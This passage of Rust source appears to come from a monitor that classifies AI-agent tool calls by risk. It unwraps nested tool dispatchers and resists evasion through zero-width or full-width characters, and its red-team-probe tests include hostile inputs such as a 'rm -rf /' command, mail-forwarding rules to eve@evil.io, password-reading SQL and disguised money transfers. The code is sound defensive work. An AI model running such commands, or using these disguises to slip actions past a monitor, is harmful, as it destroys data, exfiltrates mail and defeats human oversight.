            args.iter()
                .find(|(key, _)| crate::fold::fold(key).eq_ignore_ascii_case(k))
                .map(|(_, v)| v)
        })
    };
    keys.iter().find_map(|k| match get(k)? {
        Value::Number(n) => n.as_f64(),
        Value::String(s) => s
            .trim()
            .trim_start_matches(['$', '€', '£'])
            .replace(',', "")
            .parse::<f64>()
            .ok(),
        _ => None,
    })
}

/// How many dispatcher levels [`ToolAnnotator::annotate`] unwraps
/// (`call_tool {"name": "tool_use", "arguments": {"name": "send_money", …}}`).
const MAX_DISPATCH_DEPTH: usize = 4;

/// Names of generic tool dispatchers: a step calling one of these runs the tool its arguments
/// name (`call_tool`, `mcp.call_tool`, `api.call`, `invoke_tool`, `use_tool`, an Anthropic
/// `tool_use` block, an OpenAI `function_call`, an MCP client, …).
const DISPATCHERS: &[&str] = &[
    "call_tool",
    "calltool",
    "call",
    "invoke",
    "invoke_tool",
    "use_tool",
    "run_tool",
    "execute_tool",
    "tool_call",
    "dispatch",
    "tool_use",
    "tooluse",
    "function_call",
    "functioncall",
    "tools_call",
    "mcp",
    "mcp_call",
    "mcp_tool",
    "call_mcp_tool",
    "use_mcp_tool",
];

/// An argument that is an object, or a JSON object written as a string.
fn object_arg(v: &Value) -> Option<serde_json::Map<String, Value>> {
    match v {
        Value::Object(m) => Some(m.clone()),
        Value::String(s) => match serde_json::from_str(s) {
            Ok(Value::Object(m)) => Some(m),
            _ => None,
        },
        _ => None,
    }
}

/// The tool name and arguments of an MCP JSON-RPC `tools/call` request
/// (`{"method": "tools/call", "params": {"name": …, "arguments": {…}}}`), whatever the step's
/// tool is called: the request says what runs.
fn mcp_tools_call(args: &serde_json::Map<String, Value>) -> Option<(String, Option<Value>)> {
    let method = args.get("method")?.as_str()?;
    if !crate::fold::fold(method)
        .trim()
        .eq_ignore_ascii_case("tools/call")
    {
        return None;
    }
    let mut params = object_arg(args.get("params")?)?;
    let name = params.get("name")?.as_str()?.to_owned();
    Some((name, params.remove("arguments")))
}

/// The call a dispatcher step makes: an MCP `tools/call` request ([`mcp_tools_call`]), or a
/// step of one of [`DISPATCHERS`] running the tool named by its `name` / `tool` / `tool_name` /
/// `function` / `method` argument, with the arguments under `arguments` / `args` / `input` /
/// `parameters` / `params` (an object, or a JSON object written as a string), and the step's
/// own annotation fields. `None` for any other step.
fn dispatched_call(step: &Step) -> Option<Step> {
    let (name, args) = if let Some((name, args)) = mcp_tools_call(&step.args) {
        (name, args.as_ref().and_then(object_arg))
    } else {
        // Most steps are not dispatchers: decided without allocating for an ASCII name.
        let folded = crate::fold::fold(&step.tool);
        let last = crate::intent::unqualified_tool_name(&folded);
        let last = DISPATCHERS
            .iter()
            .copied()
            .find(|d| d.eq_ignore_ascii_case(last))?;
        let name = ["name", "tool", "tool_name", "function", "method"]
            .iter()
            .find_map(|k| step.args.get(*k)?.as_str())?;
        let args = ["arguments", "args", "input", "parameters", "params"]
            .iter()
            .find_map(|k| object_arg(step.args.get(*k)?));
        // `call {"name": "Mom"}` is a phone call, not a dispatch: the bare verbs need arguments.
        if args.is_none() && matches!(last, "call" | "invoke" | "dispatch") {
            return None;
        }
        (name.to_owned(), args)
    };
    let name = name.trim();
    if name.is_empty() || name.len() > 256 {
        return None;
    }
    Some(Step {
        tool: name.to_owned(),
        args: args.unwrap_or_default(),
        observation: None,
        category: step.category.clone(),
        side_effects: step.side_effects.clone(),
        irreversible: step.irreversible,
        sensitive: step.sensitive,
        network: step.network,
        permissions: step.permissions.clone(),
        estimated_cost: step.estimated_cost,
        endpoints: step.endpoints.clone(),
    })
}

/// Splits a tool name into lower-case tokens on `_ - . / : space` and camelCase boundaries.
pub fn tool_tokens(tool: &str) -> Vec<String> {
    if tool.is_ascii() {
        return ascii_tool_tokens(tool.as_bytes());
    }
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut prev_lower = false;
    for ch in tool.chars() {
        if ch.is_alphanumeric() {
            if ch.is_uppercase() && prev_lower && !cur.is_empty() {
                out.push(std::mem::take(&mut cur));
            }
            prev_lower = ch.is_lowercase() || ch.is_ascii_digit();
            cur.extend(ch.to_lowercase());
        } else {
            if !cur.is_empty() {
                out.push(std::mem::take(&mut cur));
            }
            prev_lower = false;
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// Byte-level fast path of [`tool_tokens`] for ASCII names (the usual case).
fn ascii_tool_tokens(b: &[u8]) -> Vec<String> {
    let mut out = Vec::with_capacity(4);
    let mut start = None;
    let mut prev_lower = false;
    let push = |from: usize, to: usize, out: &mut Vec<String>| {
        let mut t = String::with_capacity(to - from);
        t.extend(
            b[from..to]
                .iter()
                .map(|c| char::from(c.to_ascii_lowercase())),
        );
        out.push(t);
    };
    for (i, &c) in b.iter().enumerate() {
        if c.is_ascii_alphanumeric() {
            match start {
                Some(s) if c.is_ascii_uppercase() && prev_lower => {
                    push(s, i, &mut out);
                    start = Some(i);
                }
                None => start = Some(i),
                _ => {}
            }
            prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
        } else {
            if let Some(s) = start.take() {
                push(s, i, &mut out);
            }
            prev_lower = false;
        }
    }
    if let Some(s) = start {
        push(s, b.len(), &mut out);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn weakening_a_security_control_is_a_grant() {
        let a = ToolAnnotator::default();
        let action = |tool: &str| {
            let step: Step =
                serde_json::from_value(serde_json::json!({"tool": tool, "args": {}})).unwrap();
            a.annotate(&step).action
        };
        for tool in [
            "update_branch_protection",
            "github.update_ruleset",
            "disable_mfa",
            "UpdateRulesets",
        ] {
            assert_eq!(action(tool), Action::Grant, "{tool}");
        }
        assert_eq!(action("get_branch_protection"), Action::Read);
        assert_eq!(action("log_security_audit"), Action::Write);
    }

    #[test]
    fn an_answer_to_the_user_is_a_read_and_a_reply_to_someone_is_a_send() {
        let a = ToolAnnotator::default();
        let action = |tool: &str, args: serde_json::Value| {
            let step: Step =
                serde_json::from_value(serde_json::json!({"tool": tool, "args": args})).unwrap();
            a.annotate(&step).action
        };
        for tool in [
            "reply",
            "respond",
            "final_answer",
            "respond_to_user",
            "reply_to_user",
            "answer",
        ] {
            assert_eq!(
                action(tool, serde_json::json!({"text": "done"})),
                Action::Read,
                "{tool}"
            );
        }
        assert_eq!(
            action(
                "reply",
                serde_json::json!({"to": "bob@x.example", "text": "hi"})
            ),
            Action::Send
        );
        assert_eq!(
            action("reply_email", serde_json::json!({"text": "hi"})),
            Action::Send
        );
        assert_eq!(
            action(
                "slack.reply",
                serde_json::json!({"channel": "C1", "text": "hi"})
            ),
            Action::Send
        );
    }
    use rand::Rng;
    use rand_chacha::ChaCha8Rng;
    use rand_chacha::rand_core::SeedableRng;

    /// The token table answers what walking the lists did, for every lexicon word, its plural
    /// and stem, and seeded random tokens and token sets.
    #[test]
    fn argument_name_lists_are_lower_case_ascii() {
        // `args_action` compares keys to them ASCII case-insensitively, which is what lower-casing
        // the key did only while every list word is lower-case ASCII.
        for w in AMOUNT_ARGS.iter().chain(PAYEE_ARGS).chain(ACCESS_ARGS) {
            assert!(
                w.bytes().all(|b| b.is_ascii() && !b.is_ascii_uppercase()),
                "{w}"
            );
        }
    }

    #[test]
    fn token_table_agrees_with_the_lists() {
        let mut words: Vec<String> = EXTRA_VERBS
            .iter()
            .map(|(v, _)| *v)
            .chain(ACTION_LISTS.iter().flat_map(|(l, _)| l.iter().copied()))
            .chain(NOUN_LIKE.iter().copied())
            .chain(DOMAINS.iter().flat_map(|(_, w)| w.iter().copied()))
            .chain([
                "",
                "s",
                "ss",
                "us",
                "x",
                "zorblax",
                "ｓｅｎｄ",
                "Send",
                "SEND",
            ])
            .map(str::to_string)
            .collect();
        let n = words.len();
        for i in 0..n {
            let w = words[i].clone();
            words.push(format!("{w}s"));
            words.push(format!("{w}es"));
            words.push(singular(&w).to_string());
            words.push(w.chars().skip(1).collect());
            words.push(
                w.chars()
                    .take(w.chars().count().saturating_sub(1))
                    .collect(),
            );
        }
        for w in &words {
            assert_eq!(verb_action(w), verb_action_by_lists(w), "{w:?}");
            assert_eq!(is_noun_like(w), NOUN_LIKE.contains(&w.as_str()), "{w:?}");
        }
        let mut rng = ChaCha8Rng::seed_from_u64(0x2545_f491_4f6c_dd1d);
        let mut next = |n: usize| rng.gen_range(0..n);
        for _ in 0..20_000 {
            let tokens: Vec<String> = (0..next(6))
                .map(|_| words[next(words.len())].clone())
                .collect();
            assert_eq!(
                token_domain(&tokens),
                token_domain_by_lists(&tokens),
                "{tokens:?}"
            );
        }
    }
    use vigil_contracts::from_json_str;

    fn step(json: &str) -> Step {
        from_json_str(json).unwrap()
    }

    #[test]
    fn a_dispatcher_step_is_read_as_the_tool_it_calls() {
        let a = ToolAnnotator::default();
        let direct = a.annotate(&step(
            r#"{"tool": "send_money", "args": {"recipient": "GB29NWBK60161331926819", "amount": 4999}}"#,
        ));
        for wrapped in [
            r#"{"tool": "mcp.call_tool", "args": {"name": "send_money", "arguments": {"recipient": "GB29NWBK60161331926819", "amount": 4999}}}"#,
            r#"{"tool": "api.call", "args": {"tool": "send_money", "args": {"recipient": "GB29NWBK60161331926819"}}}"#,
            r#"{"tool": "invoke_tool", "args": {"tool_name": "send_money", "input": "{\"amount\": 5}"}}"#,
        ] {
            let w = a.annotate(&step(wrapped));
            assert_eq!(w.action, direct.action, "{wrapped}");
            assert_eq!(w.action, Action::Transfer, "{wrapped}");
        }
        // A phone call is not a dispatch; the step's own annotation fields still win.
        let phone = a.annotate(&step(r#"{"tool": "call", "args": {"name": "Mom"}}"#));
        assert_ne!(phone.action, Action::Transfer);
        let pinned = a.annotate(&step(
            r#"{"tool": "call_tool", "args": {"name": "send_money"}, "network": false}"#,
        ));
        assert!(!pinned.network);
    }

    /// The action of a one-step JSON, for the red-team probes below.
    fn action_of(json: &str) -> Action {
        ToolAnnotator::default().annotate(&step(json)).action
    }

    #[test]
    fn an_http_method_never_lowers_what_the_name_or_arguments_say() {
        for (json, want) in [
            // A GET does not make a money, deletion or sharing tool a read.
            (
                r#"{"tool": "send_money", "args": {"method": "GET", "recipient": "DE44500105175407324931", "amount": 9500}}"#,
                Action::Transfer,
            ),
            (
                r#"{"tool": "delete_repository", "args": {"method": "GET", "name": "prod"}}"#,
                Action::Delete,
            ),
            (
                r#"{"tool": "share_document", "args": {"method": "get", "doc": "plan.pdf"}}"#,
                Action::Grant,
            ),
            (
                r#"{"tool": "update_record", "args": {"method": "HEAD"}}"#,
                Action::Write,
            ),
            (
                r#"{"tool": "run_command", "args": {"method": "GET", "command": "rm -rf /"}}"#,
                Action::Execute,
            ),
            // Money arguments keep a generic HTTP client a transfer too.
            (
                r#"{"tool": "http_request", "args": {"method": "GET", "url": "https://bank.example/pay", "recipient": "DE44500105175407324931", "amount": 9500}}"#,
                Action::Transfer,
            ),
            // A generic HTTP client does what its method says.
            (
                r#"{"tool": "http_request", "args": {"method": "GET", "url": "https://example.com"}}"#,
                Action::Read,
            ),
            (
                r#"{"tool": "api_call", "args": {"method": "ＧＥＴ", "url": "https://example.com"}}"#,
                Action::Read,
            ),
            (
                r#"{"tool": "webhook", "args": {"method": "GET", "url": "https://example.com"}}"#,
                Action::Read,
            ),
            (
                r#"{"tool": "send_http_request", "args": {"method": "DELETE", "url": "https://example.com/x"}}"#,
                Action::Delete,
            ),
            (
                r#"{"tool": "fetch", "args": {"method": "POST", "url": "https://example.com"}}"#,
                Action::Send,
            ),
            // A method can raise a read name: a POST sends its body (as before).
            (
                r#"{"tool": "search", "args": {"method": "POST", "query": "weather"}}"#,
                Action::Send,
            ),
            (
                r#"{"tool": "get_url", "args": {"method": "DELETE", "url": "https://example.com"}}"#,
                Action::Delete,
            ),
            // An unrecognised name takes the method's action.
            (
                r#"{"tool": "zorblax", "args": {"method": "GET"}}"#,
                Action::Read,
            ),
        ] {
            assert_eq!(action_of(json), want, "{json}");
        }
    }

    #[test]
    fn mcp_tool_use_and_nested_dispatch_are_read_as_the_inner_call() {
        for json in [
            r#"{"tool": "mcp", "args": {"method": "tools/call", "params": {"name": "send_money", "arguments": {"recipient": "DE44500105175407324931", "amount": 9500}}}}"#,
            r#"{"tool": "my_client", "args": {"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": "{\"name\": \"send_money\", \"arguments\": {\"amount\": 5}}"}}"#,
            r#"{"tool": "tool_use", "args": {"name": "send_money", "input": {"recipient": "DE44500105175407324931", "amount": 9500}}}"#,
            r#"{"tool": "function_call", "args": {"name": "send_money", "arguments": "{\"recipient\": \"DE44500105175407324931\", \"amount\": 9500}"}}"#,
            r#"{"tool": "use_mcp_tool", "args": {"server_name": "bank", "tool_name": "send_money", "arguments": {"amount": 1}}}"#,
            r#"{"tool": "call_tool", "args": {"name": "tool_use", "arguments": {"name": "mcp", "input": {"method": "tools/call", "params": {"name": "send_money"}}}}}"#,
        ] {
            assert_eq!(action_of(json), Action::Transfer, "{json}");
        }
        assert_eq!(
            action_of(
                r#"{"tool": "mcp", "args": {"method": "tools/call", "params": {"name": "delete_repository", "arguments": {"method": "GET"}}}}"#
            ),
            Action::Delete
        );
        // Other MCP requests, and a phone call, are not dispatches.
        assert_eq!(
            action_of(r#"{"tool": "mcp", "args": {"method": "tools/list"}}"#),
            Action::Read
        );
        assert_ne!(
            action_of(r#"{"tool": "call", "args": {"name": "Mom"}}"#),
            Action::Transfer
        );
    }

    #[test]
    fn an_invisible_character_is_read_both_inside_a_word_and_between_two() {
        let a = ToolAnnotator::default();
        for sep in ['\u{2060}', '\u{00ad}', '\u{034f}', '\u{200b}', '\u{feff}'] {
            let s = a.annotate(&Step {
                tool: format!("wire{sep}transfer"),
                ..step(r#"{"tool": "x", "args": {"recipient": "DE44500105175407324931"}}"#)
            });
            assert_eq!(s.action, Action::Transfer, "{sep:?}");
            assert_eq!(s.domain, "payments", "{sep:?}");
            assert!(s.irreversible && s.sensitive, "{sep:?}");
        }
        for tool in [
            "tra\u{200d}nsfer",
            "de\u{00ad}lete_file",
            "ｓｅｎｄ\u{2060}_money",
        ] {
            let s = a.annotate(&Step {
                tool: tool.into(),
                ..step(r#"{"tool": "x", "args": {}}"#)
            });
            assert_ne!(s.action, Action::Other, "{tool:?}");
            assert!(s.action.is_irreversible(), "{tool:?}");
        }
        // The lexicon words of the broken reading count for the flags.
        let s = a.annotate(&Step {
            tool: "get\u{2060}password".into(),
            ..step(r#"{"tool": "x", "args": {}}"#)
        });
        assert!(s.sensitive && s.tokens.contains(&"password".to_string()));
        // The riskier reading wins: "ca\u{200b}n_delete" is not the question "can_delete".
        let s = a.annotate(&Step {
            tool: "ca\u{200b}n_delete_file".into(),
            ..step(r#"{"tool": "x", "args": {}}"#)
        });
        assert_eq!(s.action, Action::Delete);
    }

    #[test]
    fn unknown_money_verbs_with_money_arguments_move_money() {
        for tool in [
            "execute_trade",
            "initiate_ach",
            "ach_originate",
            "xfer",
            "SENDMONEY",
            "acme_op",
        ] {
            for args in [
                r#"{"recipient": "DE44500105175407324931", "amt": 9500}"#,
                r#"{"to": "DE44500105175407324931", "amt": 9500}"#,
                r#"{"to": "DE44500105175407324931", "ａｍｔ": 9500}"#,
            ] {
                let s = ToolAnnotator::default()
                    .annotate(&step(&format!(r#"{{"tool": "{tool}", "args": {args}}}"#)));
                assert_eq!(s.action, Action::Transfer, "{tool} {args}");
                assert!(s.estimated_cost >= 9500.0, "{tool} {args}");
            }
        }
        for (tool, want) in [
            ("xfer_funds", Action::Transfer),
            ("initiate_ach", Action::Transfer),
            ("execute_trade", Action::Transfer),
            ("execute_payment", Action::Transfer),
            ("run_script", Action::Execute),
        ] {
            assert_eq!(
                action_of(&format!(r#"{{"tool": "{tool}", "args": {{}}}}"#)),
                want,
                "{tool}"
            );
        }
        // A read's amount and payee are a filter, not a payment.
        assert_eq!(
            action_of(
                r#"{"tool": "search_transactions", "args": {"recipient": "DE44500105175407324931", "amt": 10}}"#
            ),
            Action::Read
        );
    }

    #[test]
    fn a_search_querys_words_are_sensitive_only_outside_reads() {
        let a = ToolAnnotator::default();
        let sensitive = |j: &str| a.annotate(&step(j)).sensitive;
        assert!(!sensitive(
            r#"{"tool": "search_emails", "args": {"query": "password reset"}}"#
        ));
        let search = a.annotate(&step(
            r#"{"tool": "search_emails", "args": {"query": "password reset"}}"#,
        ));
        assert!(search.sensitive_topic && !search.sensitive);
        assert!(!sensitive(
            r#"{"tool": "search_files", "args": {"keywords": ["credentials", "secret"]}}"#
        ));
        // SQL in a query reads the secret itself; other arguments still count.
        assert!(sensitive(
            r#"{"tool": "db.query", "args": {"query": "SELECT password FROM users"}}"#
        ));
        assert!(sensitive(
            r#"{"tool": "search_emails", "args": {"query": "invoice", "folder": "/secrets"}}"#
        ));
        // Not a read: the query's words count.
        assert!(sensitive(
            r#"{"tool": "notes.delete", "args": {"query": "password"}}"#
        ));
    }

    #[test]
    fn tokens_split_snake_camel_and_dots() {
        assert_eq!(
            tool_tokens("gmail.sendMessage"),
            ["gmail", "send", "message"]
        );
        assert_eq!(tool_tokens("delete_file"), ["delete", "file"]);
        assert_eq!(tool_tokens("HTTP-Request"), ["http", "request"]);
        assert!(tool_tokens("").is_empty());
    }

    #[test]
    fn lexicon_annotates_common_tools() {
        let a = ToolAnnotator::default();
        let pay = a.annotate(&step(
            r#"{"tool": "transfer_funds", "args": {"amount": 250, "to_account": "GB29NWBK60161331926819"}}"#,
        ));
        assert_eq!(pay.action, Action::Transfer);
        assert_eq!(pay.domain, "payments");
        assert!(pay.irreversible && pay.sensitive);
        assert!((pay.estimated_cost - 250.5).abs() < 1e-9);
        assert_eq!(pay.permissions, ["payments:transfer"]);

        let read = a.annotate(&step(
            r#"{"tool": "list_files", "args": {"dir": "/home/me/docs"}}"#,
        ));
        assert_eq!(read.action, Action::Read);
        assert!(!read.irreversible && !read.sensitive && !read.network);
        assert_eq!(read.estimated_cost, 0.01);

        let hook = a.annotate(&step(
            r#"{"tool": "http_request", "args": {"method": "POST", "url": "https://hooks.example.com/x?a=1"}}"#,
        ));
        assert_eq!(hook.action, Action::Send);
        assert!(hook.network && hook.irreversible);
        assert_eq!(hook.endpoints, ["hooks.example.com"]);

        let unlock = a.annotate(&step(
            r#"{"tool": "smart_lock", "args": {"command": "unlock", "door": "front"}}"#,
        ));
        assert_eq!(unlock.domain, "home");

        let unknown = a.annotate(&step(r#"{"tool": "zorblax", "args": {}}"#));
        assert_eq!(unknown.action, Action::Other);
        assert_eq!(unknown.domain, "other");
        assert!(!unknown.irreversible && !unknown.network);
    }

    #[test]
    fn unseen_tool_names_are_read_by_verb_and_object() {
        let a = ToolAnnotator::default();
        let act = |tool: &str, args: &str| {
            a.annotate(&step(&format!(r#"{{"tool": "{tool}", "args": {args}}}"#)))
                .action
        };
        for (tool, want) in [
            ("BankManagerTransferFunds", Action::Transfer),
            ("AugustSmartLockGrantGuestAccess", Action::Grant),
            ("EvernoteManagerManageNoteSharingLevel", Action::Grant),
            ("TrafficControlManageTrafficLightState", Action::Write),
            ("send_money", Action::Transfer),
            ("update_scheduled_transaction", Action::Transfer),
            ("get_scheduled_transactions", Action::Read),
            ("share_file", Action::Grant),
            ("share_on_pinterest", Action::Send),
            ("update_password", Action::Grant),
            ("add_user_to_channel", Action::Grant),
            ("add_calendar_event_participants", Action::Write),
            ("read_channel_messages", Action::Read),
            ("get_unread_emails", Action::Read),
            ("check_app_permissions", Action::Read),
            ("send_payment_request", Action::Send),
            ("transfer_to_human_agents", Action::Send),
            ("submit_amazon_order", Action::Transfer),
            ("make_online_purchases", Action::Transfer),
            ("create_instagram_post", Action::Send),
            ("draft_reply", Action::Write),
            ("can_send_mms", Action::Read),
            ("yahoo_finance_news", Action::Read),
            ("remove_user_from_slack", Action::Delete),
        ] {
            assert_eq!(act(tool, "{}"), want, "{tool}");
        }
        // Arguments: an amount with a payee moves money; an access level grants access.
        assert_eq!(
            act("acme_op", r#"{"amount": 10000, "recipient": "GB00X"}"#),
            Action::Transfer
        );
        assert_eq!(
            act("update_doc", r#"{"access_level": "edit"}"#),
            Action::Grant
        );
        // The catalog still wins over the inference.
        let catalog =
            ToolCatalog::from_json(r#"{"tools": {"send_money": {"action": "write"}}}"#).unwrap();
        let s = ToolAnnotator::with_catalog(catalog).annotate(&step(
            r#"{"tool": "send_money", "args": {"amount": 5, "recipient": "x"}}"#,
        ));
        assert_eq!(s.action, Action::Write);
    }

    /// Probe round 3 (F6, F7, F3): destroying, exposing and forwarding tools the lexicon did
    /// not know, by name and by argument shape.
    #[test]
    fn trash_public_forwarding_and_invitee_shapes_are_read() {
        let a = ToolAnnotator::default();
        let ann = |tool: &str, args: &str| {
            a.annotate(&step(&format!(r#"{{"tool": "{tool}", "args": {args}}}"#)))
        };
        for (tool, args, want) in [
            // By name.
            (
                "trash_file",
                r#"{"file_id": "budget.xlsx"}"#,
                Action::Delete,
            ),
            ("empty_trash", "{}", Action::Delete),
            (
                "clear_calendar",
                r#"{"calendar": "primary"}"#,
                Action::Delete,
            ),
            ("shred_document", r#"{"doc": "a"}"#, Action::Delete),
            ("discard_draft", r#"{"draft_id": "d1"}"#, Action::Delete),
            (
                "overwrite_file",
                r#"{"file_id": "a", "content": ""}"#,
                Action::Delete,
            ),
            ("unshare_file", r#"{"file_id": "a"}"#, Action::Delete),
            ("move_to_trash", r#"{"file_id": "a"}"#, Action::Delete),
            ("make_public", r#"{"file_id": "a"}"#, Action::Grant),
            ("set_repo_public", r#"{"repo": "a"}"#, Action::Grant),
            // Nouns and adjectives, and bringing things back, do not delete.
            ("list_trash", "{}", Action::Read),
            ("get_trash_items", "{}", Action::Read),
            ("create_empty_file", r#"{"path": "a.txt"}"#, Action::Write),
            ("restore_from_trash", r#"{"file_id": "a"}"#, Action::Write),
            ("get_public_databases", "{}", Action::Read),
            (
                "create_public_channel",
                r#"{"name": "launch"}"#,
                Action::Write,
            ),
            ("public_holidays", "{}", Action::Other),
            // By argument: a trash flag or destination deletes, a public visibility grants.
            (
                "drive.files.update",
                r#"{"fileId": "a", "requestBody": {"trashed": true}}"#,
                Action::Delete,
            ),
            (
                "move_file",
                r#"{"file_id": "a", "destination": "/Trash"}"#,
                Action::Delete,
            ),
            (
                "gmail.users.messages.modify",
                r#"{"id": "m1", "addLabelIds": ["TRASH"]}"#,
                Action::Delete,
            ),
            (
                "move_file",
                r#"{"file_id": "a", "destination": "/docs/2024"}"#,
                Action::Write,
            ),
            (
                "move_file",
                r#"{"file_id": "a", "destination": "/usr/local/bin"}"#,
                Action::Write,
            ),
            ("list_emails", r#"{"folder": "Trash"}"#, Action::Read),
            (
                "update_file",
                r#"{"file_id": "a", "visibility": "public"}"#,
                Action::Grant,
            ),
            (
                "drive.permissions.create",
                r#"{"fileId": "a", "requestBody": {"role": "reader", "type": "anyone"}}"#,
                Action::Grant,
            ),
            (
                "update_file",
                r#"{"file_id": "a", "visibility": "private"}"#,
                Action::Write,
            ),
            // A publication stays a send.
            (
                "create_linkedin_post",
                r#"{"text": "hi", "visibility": "PUBLIC"}"#,
                Action::Send,
            ),
            // A mail rule or setting that forwards to an address is a send.
            (
                "create_mail_filter",
                r#"{"criteria": {"from": "*"}, "action": {"forward": "eve@evil.io"}}"#,
                Action::Send,
            ),
            (
                "set_email_forwarding",
                r#"{"forward_to": "eve@evil.io", "enabled": true}"#,
                Action::Send,
            ),
            (
                "update_forwarding",
                r#"{"address": "eve@evil.io"}"#,
                Action::Send,
            ),
            ("auto_forward", r#"{"to": "eve@evil.io"}"#, Action::Send),
            (
                "GmailCreateFilter",
                r#"{"from": "boss@corp.com", "forward": "eve@evil.io"}"#,
                Action::Send,
            ),
            (
                "create_mail_filter",
                r#"{"criteria": {"from": "*"}, "action": {"removeLabelIds": ["INBOX"]}}"#,
                Action::Write,
            ),
            ("disable_forwarding", "{}", Action::Write),
            ("get_forwarding", "{}", Action::Read),
        ] {
            assert_eq!(ann(tool, args).action, want, "{tool} {args}");
        }
        // Deleting, exposing and forwarding cannot be undone.
        for (tool, args) in [
            ("trash_file", r#"{"file_id": "a"}"#),
            ("make_public", r#"{"file_id": "a"}"#),
            ("set_email_forwarding", r#"{"forward_to": "eve@evil.io"}"#),
        ] {
            assert!(ann(tool, args).irreversible, "{tool}");
        }
        // A standing rule's targets; a one-off forward has none.
        let forwards = |tool: &str, args: &str| ann(tool, args).forwards_to;
        assert_eq!(
            forwards(
                "create_mail_filter",
                r#"{"criteria": {"from": "boss@corp.com"}, "action": {"forward": "Eve@Evil.io"}}"#
            ),
            ["eve@evil.io"]
        );
        assert_eq!(
            forwards(
                "set_email_forwarding",
                r#"{"forward_to": "eve@evil.io", "enabled": true}"#
            ),
            ["eve@evil.io"]
        );
        assert_eq!(
            forwards("auto_forward", r#"{"to": "eve@evil.io"}"#),
            ["eve@evil.io"]
        );
        assert!(
            forwards(
                "forward_email",
                r#"{"email_id": "c3", "forward_to": "a@corp.com"}"#
            )
            .is_empty()
        );
        assert!(forwards("delete_forwarding_address", r#"{"email": "eve@evil.io"}"#).is_empty());
        let fwd = ann("set_email_forwarding", r#"{"forward_to": "eve@evil.io"}"#);
        assert!(fwd.network && fwd.domain == "email", "{fwd:?}");
        // Invitees: the addresses of participant keys, not of the description.
        let event = ann(
            "create_calendar_event",
            r#"{"title": "sync", "participants": ["alice@corp.com", "eve@evil.io"], "description": "cc bob@corp.com"}"#,
        );
        assert_eq!(event.action, Action::Write);
        assert_eq!(event.invitees, ["alice@corp.com", "eve@evil.io"]);
        assert_eq!(
            event.endpoints,
            ["alice@corp.com", "bob@corp.com", "eve@evil.io"]
        );
        assert_eq!(
            ann(
                "calendar.events.insert",
                r#"{"requestBody": {"attendees": [{"email": "li@corp.com"}]}}"#
            )
            .invitees,
            ["li@corp.com"]
        );
        assert_eq!(
            ann(
                "GoogleCalendarCreateOrUpdateEvent",
                r#"{"event_name": "x", "attendees": ["li@corp.com"]}"#
            )
            .invitees,
            ["li@corp.com"]
        );
    }

    #[test]
    fn given_annotations_win_over_catalog_and_lexicon() {
        let catalog = ToolCatalog::from_json(
            r#"{"tools": {"send_email": {"irreversible": false, "estimated_cost": 3, "endpoints": ["smtp.corp.example"]}}}"#,
        )
        .unwrap();
        let a = ToolAnnotator::with_catalog(catalog);
        let s = a.annotate(&step(
            r#"{"tool": "send_email", "args": {"to": "x@y.example"}, "estimated_cost": 1.5}"#,
        ));
        assert!(!s.irreversible, "catalog overrides lexicon");
        assert_eq!(s.estimated_cost, 1.5, "given value overrides catalog");
        assert_eq!(s.endpoints, ["smtp.corp.example", "x@y.example"]);
        let s = a.annotate(&step(
            r#"{"tool": "send_email", "args": {}, "endpoints": ["A.example"], "irreversible": true}"#,
        ));
        assert!(s.irreversible);
        assert_eq!(s.endpoints, ["a.example"]);
    }

    #[test]
    fn catalog_is_strictly_validated() {
        let e = ToolCatalog::from_json(r#"{"tools": {"x": {"irreversable": true}}}"#)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("tools.x") && e.contains("unknown field `irreversable`"),
            "{e}"
        );
        let e = ToolCatalog::from_json(r#"{"tools": {"x": {"sensitive": "yes"}}}"#)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("tools.x.sensitive") && e.contains("invalid type"),
            "{e}"
        );
        let e = ToolCatalog::from_json(r#"{"tools": {"x": {"estimated_cost": -2}}}"#)
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("tools.x.estimated_cost") && e.contains("-2"),
            "{e}"
        );
        let e = ToolCatalog::from_json(r#"{"tools": {"x": {"action": "fly"}}}"#)
            .unwrap_err()
            .to_string();
        assert!(e.contains("tools.x.action") && e.contains("fly"), "{e}");
        let e = ToolCatalog::from_json(r#"[1,2]"#).unwrap_err().to_string();
        assert!(e.contains("invalid type"), "{e}");
    }
}
